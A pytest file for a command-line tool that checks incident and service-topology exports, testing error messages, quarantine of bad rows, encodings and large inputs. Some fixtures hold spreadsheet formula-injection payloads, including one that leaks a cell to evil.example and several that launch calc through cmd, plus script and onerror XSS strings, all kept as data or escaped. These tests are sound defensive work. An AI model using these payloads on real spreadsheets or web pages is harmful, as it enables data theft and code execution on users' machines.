"""Bad input gets a clear answer: the corpus in tests/data/bad/, one case per kind of breakage.

Each case runs `whatif validate --incidents X --topology Y --as-of 2026-11-01` with the valid
counterpart (tests/data/bad/incidents.csv or topology.csv) for the other input, and asserts the
product rule:

- a user error exits 2 with ONE line on stderr, `whatif: error: <file>[, row N][, column C]:
  <message> (<hint>)`, and never a traceback (exit 1 would be a bug);
- a bad row is never dropped silently: it is used or in quarantine.csv with its reason and its
  row (the header is row 1, as in a spreadsheet), and validation.json reconciles
  rows_read = rows_used + rows_quarantined.

quarantine.csv and the clean tables are read from the stages the CLI runs (pipeline.extract and
pipeline.run_validation), in a work folder of the test's own. Big inputs (1 MB field, 100 MB
file) are generated in tmp_path rather than committed.
"""

from __future__ import annotations

import csv
import dataclasses
import json
import logging
import time
from collections import Counter
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from shared import PROJECT
from whatif import pipeline
from whatif.config import DEFAULT_HISTORY_DAYS
from whatif.topology import Topology

BAD = PROJECT / "tests" / "data" / "bad"
INCIDENTS = BAD / "incidents.csv"  # the valid counterparts
TOPOLOGY = BAD / "topology.csv"
AS_OF = "2026-11-01"
# The valid incidents end seven months before AS_OF: validation says so (and it is true).
QUIET_TAIL = (
    f"{INCIDENTS}: the newest incident starts 2026-04-01, 214 days before --as-of 2026-11-01, "
    "and those days count as days without incidents, lowering every rate (before them the "
    "history had one incident every 14 days: a silence this long has a chance of less than one "
    "in a million); if the export ends there, rerun with --as-of 2026-04-02"
)
AS_OF_TIME = datetime(2026, 11, 1, tzinfo=UTC)
# What a spreadsheet may take for the start of a formula (OWASP, "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HEADER = "incident_id,service,started_at,resolved_at,severity,category,title,description,caused_by"

Where = Path | Callable[[Path], Path]  # a corpus file, or one made in tmp_path


@dataclasses.dataclass(frozen=True)
class Outcome:
    code: int
    out: str
    err: str
    validation: dict | None  # validation.json, when validation succeeded

    def inputs(self, name: str = "incidents") -> dict:
        assert self.validation is not None, self.err
        return self.validation["inputs"][name]


@dataclasses.dataclass(frozen=True)
class Staged:
    """What the validate stage leaves behind: quarantine.csv and the clean tables."""

    quarantine: list[dict[str, str]]
    incidents: pd.DataFrame
    topology: Topology


def resolve(where: Where, tmp_path: Path) -> Path:
    return where(tmp_path) if callable(where) else where


def validate_cli(run_cli, tmp_path: Path, incidents: Path = INCIDENTS, topology: Path = TOPOLOGY):
    out = tmp_path / "validation.json"
    code, stdout, stderr = run_cli(
        "validate", "--incidents", incidents, "--topology", topology, "--as-of", AS_OF, "--out", out
    )
    validation = json.loads(out.read_text()) if code == 0 else None
    return Outcome(code, stdout, stderr, validation)


def stage(tmp_path: Path, incidents: Path = INCIDENTS, topology: Path = TOPOLOGY) -> Staged:
    work = tmp_path / "work"
    inputs = pipeline.Inputs(incidents=str(incidents), topology=str(topology))
    pipeline.extract(inputs, work, AS_OF_TIME, DEFAULT_HISTORY_DAYS)
    pipeline.run_validation(work, AS_OF_TIME, DEFAULT_HISTORY_DAYS)
    with open(work / "quarantine.csv", newline="", encoding="utf-8") as file:
        quarantine = list(csv.DictReader(file))
    clean, topology_ = pipeline.load_clean(work)
    return Staged(quarantine, clean, topology_)


def assert_reconciled(outcome: Outcome, rows_read: int, rows_quarantined: int) -> None:
    """The counts add up, in validation.json and in the command's summary line."""
    assert outcome.code == 0, outcome.err
    counts = outcome.inputs()
    used = rows_read - rows_quarantined
    assert (counts["rows_read"], counts["rows_used"], counts["rows_quarantined"]) == (
        rows_read,
        used,
        rows_quarantined,
    )
    summary = f"incidents: {rows_read} rows read, {used} used{rates_only(counts)}, "
    assert f"{summary}{rows_quarantined} quarantined" in outcome.out
    assert "Traceback" not in outcome.err


def rates_only(counts: dict) -> str:
    """What the summary line says of the rows used for rates only (no end time), if any."""
    if not counts["rows_rates_only"]:
        return ""
    durations = counts["durations"]
    return (
        f" ({counts['rows_rates_only']} for rates only: {durations['open']} open, "
        f"{durations['not_recorded']} end not recorded)"
    )


# --------------------------------------------------------------------------- user errors


def directory(tmp_path: Path) -> Path:
    folder = tmp_path / "incidents.csv"  # a folder with a file's name
    folder.mkdir()
    return folder


def missing(tmp_path: Path) -> Path:
    return tmp_path / "no-such-export.csv"


@dataclasses.dataclass(frozen=True)
class UserErrorCase:
    id: str
    file: Where
    error: str  # the line after "whatif: error: "; {file} is the path given
    input: str = "incidents"  # which input the file is given as
    exact: bool = True  # False: `error` is a prefix (the rest is the library's own words)


USER_ERRORS = [
    UserErrorCase(
        "missing-required-column",
        BAD / "missing_column.csv",
        "{file}, row 1, column started_at: required column missing (the file has: incident_id, "
        "service, duration_minutes, severity, title) (see docs/data-contract.md for the columns)",
    ),
    UserErrorCase(
        "topology-missing-required-column",
        BAD / "topology_missing_column.csv",
        "{file}, row 1, column depends_on: required column missing (the file has: service, tier) "
        "(see docs/data-contract.md for the columns)",
        input="topology",
    ),
    UserErrorCase("empty-file", BAD / "empty.csv", "{file}: the file is empty"),
    UserErrorCase(
        "topology-empty-file", BAD / "topology_empty.csv", "{file}: the file is empty", "topology"
    ),
    UserErrorCase(
        "header-only",
        BAD / "header_only.csv",
        "{file}: the file has a header but no data rows (check that the export includes its rows)",
    ),
    UserErrorCase(
        "topology-header-only",
        BAD / "topology_header_only.csv",
        "{file}: the file has a header but no data rows (check that the export includes its rows)",
        input="topology",
    ),
    UserErrorCase(
        "first-row-empty",
        BAD / "first_row_empty.csv",
        "{file}, row 1: the first row is empty (the header must be row 1)",
    ),
    UserErrorCase(  # row 3 spans two lines: the extra field is on line 6, row 5
        "ragged-row-extra-field",
        BAD / "ragged_row.csv",
        "{file}, row 5: 10 fields where the header has 9 (every row needs as many fields as the "
        "header; quote fields that contain the delimiter)",
    ),
    UserErrorCase(
        "unclosed-quote",
        BAD / "unclosed_quote.csv",
        "{file}, row 4: a quoted field is never closed (close the quote; a quote inside a quoted "
        "field is written as two quotes)",
    ),
    UserErrorCase(
        "header-names-a-column-twice",
        BAD / "duplicate_header.csv",
        "{file}, row 1, column service: the header names this column twice (column names are "
        "compared ignoring case and spaces)",
    ),
    UserErrorCase(
        "binary-file-named-csv",
        BAD / "binary.csv",
        "{file}: binary content, not a text file (export the data as CSV, Parquet or JSON Lines)",
    ),
    UserErrorCase(
        "binary-file-without-nul-bytes",
        BAD / "binary_no_nul.csv",
        "{file}: binary content, not a text file (export the data as CSV, Parquet or JSON Lines)",
    ),
    UserErrorCase(
        "utf16-cut-short",
        BAD / "utf16_truncated.csv",
        # the file's last byte (of 1293), half a character
        "{file}: not valid UTF-16 text: truncated data at byte 1292 (save the file again, as "
        "UTF-8)",
    ),
    UserErrorCase("directory-given-as-file", directory, "{file}: is a folder, not a file"),
    UserErrorCase("nonexistent-file", missing, "{file}: file not found (check the path)"),
    UserErrorCase(
        "topology-nonexistent-file",
        missing,
        "{file}: file not found (check the path)",
        input="topology",
    ),
    UserErrorCase(
        "json-lines-bad-line",
        BAD / "bad_line.jsonl",
        "{file}, row 3: not a JSON object: ",
        exact=False,
    ),
    UserErrorCase(
        "json-lines-not-an-object",
        BAD / "not_object.jsonl",
        "{file}, row 2: each line must be a JSON object",
    ),
    UserErrorCase(
        "parquet-that-is-not-parquet",
        BAD / "not_parquet.parquet",
        "{file}: not a readable Parquet file: ",
        exact=False,
    ),
    UserErrorCase(
        "unrelated-columns-listed-in-short",
        BAD / "many_columns.csv",
        "{file}, row 1, column incident_id: required column missing (the file has: field_01, "
        "field_02, field_03, field_04, field_05, field_06, field_07, field_08, field_09, "
        "field_10, field_11, field_12, ... (30 columns)) (see docs/data-contract.md for the "
        "columns)",
    ),
    UserErrorCase(
        "duplicate-topology-rows",
        BAD / "topology_duplicate_service.csv",
        "{file}, row 6, column service: each service may have one row only: 'api' (rows 3, 6) "
        "(fix the file and run again)",
        input="topology",
    ),
    UserErrorCase(
        "topology-service-only-whitespace",
        BAD / "topology_blank_service.csv",
        "{file}, row 6, column service: every topology row needs a service name (fix the file "
        "and run again)",
        input="topology",
    ),
    UserErrorCase(
        "topology-dependency-that-is-no-service",
        BAD / "topology_unknown_dependency.csv",
        "{file}, row 2, column depends_on: depends_on names 'cahce', which is no service of the "
        "topology (did you mean 'cache'?)",
        input="topology",
    ),
    UserErrorCase(
        "topology-dependencies-joined-by-a-comma",
        BAD / "topology_comma_dependencies.csv",
        "{file}, row 3, column depends_on: depends_on 'db,cache' joins services with ',' "
        "(separate dependencies with ';': db;cache)",
        input="topology",
    ),
    UserErrorCase(
        "topology-service-names-differing-in-case",
        BAD / "topology_case_variants.csv",
        "{file}, row 6, column service: services 'cache' (row 5) and 'Cache' differ only in case "
        "and would be two services (give the service one name in every row)",
        input="topology",
    ),
    UserErrorCase(
        "no-usable-row-left",
        BAD / "all_outside_window.csv",
        "{file}: no usable incident rows (quarantined by reason: outside_window: 3) (the "
        "history window is 2024-11-01 to 2026-11-01 and the newest incident starts 2024-06-01: "
        "rerun with --as-of 2024-06-02; in Airflow, a run whose data interval ends then)",
    ),
]


@pytest.mark.parametrize("case", USER_ERRORS, ids=[c.id for c in USER_ERRORS])
def test_user_error_is_one_line_naming_file_row_and_column(run_cli, tmp_path, case):
    path = resolve(case.file, tmp_path)
    given = {"incidents": INCIDENTS, "topology": TOPOLOGY, case.input: path}
    outcome = validate_cli(run_cli, tmp_path, given["incidents"], given["topology"])
    assert outcome.code == 2, outcome.err
    assert "Traceback" not in outcome.err
    lines = outcome.err.splitlines()
    assert len(lines) == 1, outcome.err
    expected = "whatif: error: " + case.error.format(file=path)
    if case.exact:
        assert lines[0] == expected
    else:
        assert lines[0].startswith(expected), lines[0]
    assert outcome.out == ""


def test_unreadable_file_is_one_line(run_cli, tmp_path, monkeypatch):
    path = tmp_path / "incidents.csv"
    path.write_text(INCIDENTS.read_text())
    real = Path.read_bytes

    def read_bytes(self: Path) -> bytes:  # tests run as root, who may read anything
        if self == path:
            raise PermissionError(13, "Permission denied")
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    outcome = validate_cli(run_cli, tmp_path, path)
    assert (outcome.code, outcome.err) == (
        2,
        f"whatif: error: {path}: cannot be read: Permission denied (check the file)\n",
    )


# --------------------------------------------------------------------------- quarantined rows

DUPLICATE = "duplicate"
NO_DATA = "missing_incident_id;missing_service;bad_started_at"


@dataclasses.dataclass(frozen=True)
class QuarantineCase:
    id: str
    file: Path
    rows_read: int
    reasons: dict[int, str]  # row -> reason(s) in quarantine.csv
    warnings: tuple[str, ...] = ()  # in validation.json, for rows used with a warning


QUARANTINED = [
    QuarantineCase(  # an unreadable end ("soon") costs the row its duration, not its place
        "wrong-types",
        BAD / "wrong_types.csv",
        10,
        {8: "bad_started_at", 9: "unknown_service"},
        (
            "severity is not a known word; the row is used without a severity (1 rows: 11)",
            "resolved_at is not an ISO-8601 timestamp; it is ignored and the row counts for "
            "rates, its duration from duration_minutes or duration_s when given (1 rows: 10)",
        ),
    ),
    QuarantineCase(
        "unparseable-dates",
        BAD / "unparseable_dates.csv",
        11,
        {row: "bad_started_at" for row in (8, 9, 10, 11, 12)},
    ),
    QuarantineCase(
        "end-before-start", BAD / "end_before_start.csv", 7, {8: "resolved_before_started"}
    ),
    QuarantineCase(  # the latest record wins; the same id on another service is no duplicate
        "duplicate-incident-service", BAD / "duplicate_incident.csv", 8, {5: DUPLICATE}
    ),
    QuarantineCase(
        "unknown-services",
        BAD / "unknown_services.csv",
        9,
        {8: "unknown_service", 9: "unknown_service"},
    ),
    QuarantineCase(
        "dates-in-the-future",
        BAD / "future_dates.csv",
        8,
        {8: "future_timestamp;outside_window", 9: "future_timestamp"},
    ),
    QuarantineCase("year-1900", BAD / "year_1900.csv", 7, {8: "outside_window"}),
    QuarantineCase(
        "incident-service-only-whitespace",
        BAD / "blank_service.csv",
        9,
        {8: "missing_service", 9: "missing_service", 10: "missing_service"},
    ),
    QuarantineCase(
        "formula-cells",
        BAD / "formula_cells.csv",
        11,
        {10: "unknown_service", 11: "unknown_service", 12: "unknown_service"},
    ),
    QuarantineCase(  # blank lines count as rows, as in a spreadsheet; ",,," is a row of no data
        "blank-lines-keep-row-numbers",
        BAD / "blank_lines.csv",
        8,
        {11: NO_DATA, 12: "unknown_service"},
    ),
    QuarantineCase("row-of-empty-fields", BAD / "empty_fields_row.csv", 7, {8: NO_DATA}),
    QuarantineCase(  # row 3 spans four lines (one blank): the ghost row is row 8, line 11
        "quoted-newlines-in-description",
        BAD / "quoted_newlines.csv",
        7,
        {8: "unknown_service"},
    ),
    QuarantineCase(  # JSON Lines rows are line numbers (the blank line 4 included)
        "json-lines-rows-are-lines",
        BAD / "rows.jsonl",
        4,
        {3: "unknown_service"},  # row 5's null resolved_at: used, its end not recorded
    ),
    QuarantineCase(
        "caused-by-unknown-incident",
        BAD / "unknown_caused_by.csv",
        7,
        {},
        ("caused_by names no incident in the file; the row counts as a root failure (1 rows: 8)",),
    ),
]


@pytest.mark.parametrize("case", QUARANTINED, ids=[c.id for c in QUARANTINED])
def test_bad_rows_are_quarantined_with_reason_and_row(run_cli, tmp_path, case):
    outcome = validate_cli(run_cli, tmp_path, case.file)
    assert_reconciled(outcome, case.rows_read, len(case.reasons))
    by_reason = Counter(r for reasons in case.reasons.values() for r in reasons.split(";"))
    assert outcome.inputs()["quarantined_by_reason"] == dict(by_reason)
    for warning in case.warnings:
        assert f"{case.file}: {warning}" in outcome.validation["warnings"]

    staged = stage(tmp_path, case.file)
    assert {int(r["row"]): r["reason"] for r in staged.quarantine} == case.reasons
    assert {r["file"] for r in staged.quarantine} <= {str(case.file)}
    assert len(staged.incidents) == case.rows_read - len(case.reasons)


def test_quarantine_keeps_the_raw_text_of_each_row(tmp_path):
    staged = stage(tmp_path, BAD / "unparseable_dates.csv")
    raw = {int(r["row"]): r["started_at"] for r in staged.quarantine}
    assert raw == {
        8: "05/01/2026",
        9: "2026-13-45T00:00:00Z",
        10: "1767225600",
        11: "2026-03-29T02:30:00 Europe/Paris",
        12: "Mon, 04 May 2026 10:00:00 GMT",
    }


def test_duplicate_latest_record_wins(tmp_path):
    staged = stage(tmp_path, BAD / "duplicate_incident.csv")
    incidents = staged.incidents.set_index(["incident_id", "service"])
    assert incidents.at[("I4", "api"), "title"] == "bad deploy (corrected)"
    assert incidents.at[("I1", "api"), "title"] == "same incident, other service"
    assert (staged.quarantine[0]["row"], staged.quarantine[0]["title"]) == ("5", "bad deploy")


def test_service_names_match_ignoring_case_and_spaces(tmp_path):
    staged = stage(tmp_path, BAD / "unknown_services.csv")
    assert staged.incidents.set_index("incident_id").at["I9", "service"] == "api"  # " API "


def test_unknown_caused_by_is_used_as_a_root_failure(tmp_path):
    staged = stage(tmp_path, BAD / "unknown_caused_by.csv")
    incidents = staged.incidents.set_index("incident_id")
    assert pd.isna(incidents.at["I7", "caused_by"])
    assert incidents.at["I2", "caused_by"] == "I1"  # a known cause is kept


# --------------------------------------------------------------------------- formulas, HTML


def test_formula_cells_are_kept_as_text_and_escaped_in_quarantine(run_cli, tmp_path):
    path = BAD / "formula_cells.csv"
    staged = stage(tmp_path, path)
    titles = staged.incidents.set_index("incident_id")["title"]
    # Used rows keep their text exactly: it is data, not a formula, for whatif.
    assert titles["I7"] == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert titles["I8"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    # quarantine.csv is made to be opened in a spreadsheet: no cell may start a formula.
    quarantine = {int(r["row"]): r for r in staged.quarantine}
    assert quarantine[10]["title"] == "'+cmd|' /C calc'!A0"
    assert quarantine[11]["service"] == "'=1+1"
    assert quarantine[11]["title"] == '\'=HYPERLINK("http://evil.example")'
    assert (quarantine[12]["title"], quarantine[12]["description"]) == ("'-2+3", "'@SUM(A1:A9)")
    for row in staged.quarantine:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (row["row"], column, value)


def test_html_in_titles_is_kept_as_data_and_never_reaches_a_report_raw(run_cli, tmp_path):
    path = BAD / "html_titles.csv"
    staged = stage(tmp_path, path)
    titles = staged.incidents.set_index("incident_id")["title"]
    assert titles["I7"] == "<script>alert('x')</script>"
    assert titles["I8"] == '<img src=x onerror="alert(1)">'
    assert staged.incidents.set_index("incident_id").at["I9", "description"] == (
        "<!-- comment --> & &amp;"
    )
    out = tmp_path / "run"
    code, _, err = run_cli(
        "run", "--incidents", path, "--topology", TOPOLOGY, "--as-of", AS_OF, "--out", out,
        "--draws", "200", "--scenarios", "2",
    )  # fmt: skip
    assert code == 0, err
    for report in ("report.html", "report.md"):
        text = (out / report).read_text(encoding="utf-8")
        assert "<script>alert" not in text and "onerror=" not in text


# --------------------------------------------------------------------------- accepted as is


ENCODINGS_AND_DELIMITERS = [
    "utf8_bom.csv",
    "utf16.csv",
    "latin1.csv",
    "semicolon.csv",
    "tab_delimited.tsv",
]


@pytest.mark.parametrize("name", ENCODINGS_AND_DELIMITERS)
def test_encodings_and_delimiters_are_detected(run_cli, tmp_path, caplog, name):
    path = BAD / name
    outcome = validate_cli(run_cli, tmp_path, path)
    assert_reconciled(outcome, 7, 0)
    incidents = stage(tmp_path, path).incidents.set_index("incident_id")
    assert incidents.at["I7", "title"] == "Dégradé à Orléans"
    assert incidents.at["I7", "description"] in ("Grüße; señor, ça va", "Grüße, señor; ça va")
    if name in ("semicolon.csv", "tab_delimited.tsv"):  # commas there are text
        assert incidents.at["I1", "title"] == "db down, again"
    not_utf8 = [r.getMessage() for r in caplog.records if "not UTF-8" in r.getMessage()]
    if name == "latin1.csv":
        assert not_utf8 and f"{path}: not UTF-8; read as cp1252" in not_utf8[0]
    else:
        assert not not_utf8


def test_json_lines_keep_unicode_line_separators_inside_strings(run_cli, tmp_path):
    path = BAD / "line_separators.jsonl"
    assert_reconciled(validate_cli(run_cli, tmp_path, path), 3, 0)
    incidents = stage(tmp_path, path).incidents.set_index("incident_id")
    assert incidents.at["I1", "title"] == "first second third"  # U+2028, U+0085 are spaces


def test_timestamps_with_offsets_and_named_zones_become_utc(run_cli, tmp_path):
    path = BAD / "time_zones.csv"
    assert_reconciled(validate_cli(run_cli, tmp_path, path), 8, 0)
    started = stage(tmp_path, path).incidents.set_index("incident_id")["started_at"]
    expected = {
        "Z1": "2026-01-05T08:00:00+00:00",  # +02:00
        "Z2": "2026-01-05T15:00:00+00:00",  # -0500
        "Z3": "2026-01-05T09:00:00+00:00",  # Europe/Paris in winter (CET, +01:00)
        "Z4": "2026-07-05T08:00:00+00:00",  # Europe/Paris in summer (CEST, +02:00)
        "Z5": "2026-01-05T17:00:00+00:00",  # PDT, -07:00
        "Z6": "2026-01-05T15:00:00+00:00",  # [America/New_York], EST
        "Z7": "2026-01-05T10:00:00+00:00",  # Z
        "Z8": "2026-01-05T10:00:00+00:00",  # naive: UTC
    }
    assert {k: started[k].isoformat() for k in expected} == expected


POSTMORTEMS = PROJECT / "tests" / "data" / "public" / "cloud-postmortems-2021.csv"
POSTMORTEMS_AS_OF = ("--as-of", "2021-12-18", "--history-days", "1800")


def flat_topology(incidents: Path, folder: Path) -> Path:
    """One row per service named in `incidents` (names compared ignoring case), no edges: what
    a user without a dependency graph writes to try a public history."""
    names = pd.read_csv(incidents, dtype=str)["service"].str.strip()
    services = sorted({name.lower() for name in names})
    path = folder / "flat-topology.csv"
    pd.DataFrame({"service": services, "depends_on": ""}).to_csv(path, index=False)
    return path


def test_an_export_with_durations_and_no_end_times_is_used_whole(run_cli, tmp_path):
    """The public post-mortems' shape: date-only starts, `duration_minutes`, no resolved_at
    column. Every row is used; the two without a duration count for rates only."""
    topology = flat_topology(POSTMORTEMS, tmp_path)
    out = tmp_path / "validation.json"
    code, stdout, err = run_cli(
        "validate", "--incidents", POSTMORTEMS, "--topology", topology, *POSTMORTEMS_AS_OF,
        "--out", out,
    )  # fmt: skip
    assert code == 0, err
    assert (
        "incidents: 39 rows read, 39 used (2 for rates only: 0 open, 2 end not recorded), "
        "0 quarantined"
    ) in stdout
    counts = json.loads(out.read_text())["inputs"]["incidents"]
    assert counts["durations"] == {
        "resolved_at": 0,
        "duration_column": 37,
        "open": 0,  # no status, and both started years before as_of
        "not_recorded": 2,
    }
    assert counts["rows_rates_only"] == 2

    work = tmp_path / "work"
    as_of = datetime(2021, 12, 18, tzinfo=UTC)
    pipeline.extract(pipeline.Inputs(str(POSTMORTEMS), str(topology)), work, as_of, 1800)
    pipeline.run_validation(work, as_of, 1800)
    clean = pipeline.load_clean(work)[0].set_index("incident_id")
    assert clean.at["aws-13", "resolved_at"] == pd.Timestamp("2021-09-02T06:12:00Z")  # + 372
    assert clean.at["aws-13", "duration_source"] == "duration_column"
    assert pd.isna(clean.at["azure-20170321-1", "resolved_at"])


def test_the_whole_cli_fits_an_export_with_durations_and_no_end_times(run_cli, tmp_path):
    topology = flat_topology(POSTMORTEMS, tmp_path)
    out = tmp_path / "model.json"
    code, _, err = run_cli(
        "fit", "--incidents", POSTMORTEMS, "--topology", topology, *POSTMORTEMS_AS_OF,
        "--out", out,
    )  # fmt: skip
    assert code == 0, err
    assert "Traceback" not in err
    document = json.loads(out.read_text())
    assert document["inputs"]["incident_rows"] == 39  # the rows without a duration count
    sources = {s["service"]: s["mttr_source"] for s in document["services"]}
    # A service whose only incident has no duration gets the fleet's; the others their own.
    assert sources.pop("storage and virtual machines") == "pooled"
    assert sources.pop("backup and site recovery services") == "pooled"
    assert set(sources.values()) == {"data"}


def test_a_one_megabyte_field_is_read_whole(run_cli, tmp_path):
    chunk = 'Line one, with "quotes"; and a comma.\nLine two.\n'
    description = chunk * (2**20 // len(chunk) + 1)
    path = tmp_path / "big_field.csv"
    field = '"' + description.replace('"', '""') + '"'
    first = f"I0,db,2026-05-01T10:00:00Z,2026-05-01T11:00:00Z,SEV3,database,huge,{field},"
    rows = INCIDENTS.read_text(encoding="utf-8").splitlines()[1:]
    path.write_text("\n".join([HEADER, first, *rows]) + "\n", encoding="utf-8")  # sniffed inside
    assert len(description) >= 2**20
    assert_reconciled(validate_cli(run_cli, tmp_path, path), 7, 0)
    incidents = stage(tmp_path, path).incidents.set_index("incident_id")
    assert incidents.at["I0", "description"] == " ".join(description.split())


def write_big_incidents(path: Path, size: int) -> dict[str, int]:
    """A realistic export of `size` bytes or more: unique ids, a few timestamp spellings, and
    now and then an unknown service or an unparseable start (counted, for the assertions)."""
    services = ("web", "api", "db", "cache")
    zones = ("Z", "+02:00", " Europe/Paris", " PDT")
    description = '"Latency climbed on the primary; requests were retried, the pool resized."'
    lines, written, counts = [HEADER + "\n"], 0, Counter()
    i = 0
    while written < size:
        day = f"2025-{1 + i % 12:02d}-{1 + i % 28:02d}T{i % 24:02d}:{i % 60:02d}"
        zone = zones[i % 4]
        service = services[i % 4]
        start = f"{day}:00{zone}"
        if i % 1000 == 999:
            service = "ghost"
            counts["unknown_service"] += 1
        elif i % 1013 == 1012:
            start = "not a date"
            counts["bad_started_at"] += 1
        line = (
            f"INC-{i:07d},{service},{start},{day}:30{zone},SEV{1 + i % 4},database,"
            f"incident {i} on {service},{description},\n"
        )
        lines.append(line)
        written += len(line)
        i += 1
    path.write_text("".join(lines), encoding="utf-8")
    counts["rows"] = i
    return counts


def test_a_100_megabyte_file_validates(run_cli, tmp_path):
    path = tmp_path / "big.csv"
    expected = write_big_incidents(path, 100 * 2**20)
    assert path.stat().st_size >= 100 * 2**20
    began = time.perf_counter()
    outcome = validate_cli(run_cli, tmp_path, path)
    seconds = time.perf_counter() - began
    quarantined = expected["unknown_service"] + expected["bad_started_at"]
    assert_reconciled(outcome, expected["rows"], quarantined)
    assert outcome.inputs()["quarantined_by_reason"] == {
        "bad_started_at": expected["bad_started_at"],
        "unknown_service": expected["unknown_service"],
    }
    logging.getLogger(__name__).info("100 MB validate: %.1f s", seconds)


# --------------------------------------------------------------------------- topology warnings


def test_nan_inf_and_text_in_numeric_topology_columns_are_ignored_with_a_warning(run_cli, tmp_path):
    path = BAD / "topology_nan_inf.csv"
    outcome = validate_cli(run_cli, tmp_path, topology=path)
    assert_reconciled(outcome, 6, 0)
    assert outcome.validation["warnings"] == [
        f"{path}: slo_target must be a fraction such as 0.999; the value is ignored "
        "(3 rows: 2, 3, 4)",
        f"{path}: traffic_weight must be between 0 and 1; the value is ignored (3 rows: 2, 3, 4)",
        QUIET_TAIL,
    ]
    topology = stage(tmp_path, topology=path).topology
    for service in ("web", "api", "db"):
        assert topology.attribute(service, "slo_target") is None
        assert topology.attribute(service, "traffic_weight") is None
    assert topology.attribute("cache", "slo_target") == pytest.approx(0.99)


def test_dependency_cycle_is_warned_naming_its_services_and_the_run_goes_on(run_cli, tmp_path):
    path = BAD / "topology_cycle.csv"
    code, _, err = run_cli(
        "run", "--incidents", INCIDENTS, "--topology", path, "--as-of", AS_OF,
        "--out", tmp_path, "--draws", "200", "--scenarios", "2",
    )  # fmt: skip
    assert code == 0, err
    warnings = json.loads((tmp_path / "validation.json").read_text())["warnings"]
    assert [w for w in warnings if "cycle" in w] == [
        f"{path}: dependency cycle api <-> db: failures may flow both ways; each service is "
        "counted once per cascade"
    ]
    assert len(json.loads((tmp_path / "scenarios.json").read_text())["scenarios"]) == 2


def test_self_dependency_is_warned_and_the_edge_ignored(run_cli, tmp_path):
    path = BAD / "topology_self_dependency.csv"
    outcome = validate_cli(run_cli, tmp_path, topology=path)
    assert_reconciled(outcome, 6, 0)
    assert outcome.validation["warnings"] == [
        f"{path}: a service lists itself in depends_on; that dependency is ignored (1 rows: 5)",
        QUIET_TAIL,
    ]
    topology = stage(tmp_path, topology=path).topology
    assert topology.dependencies_of("cache") == []
    assert topology.dependents_of("cache") == ["api"]
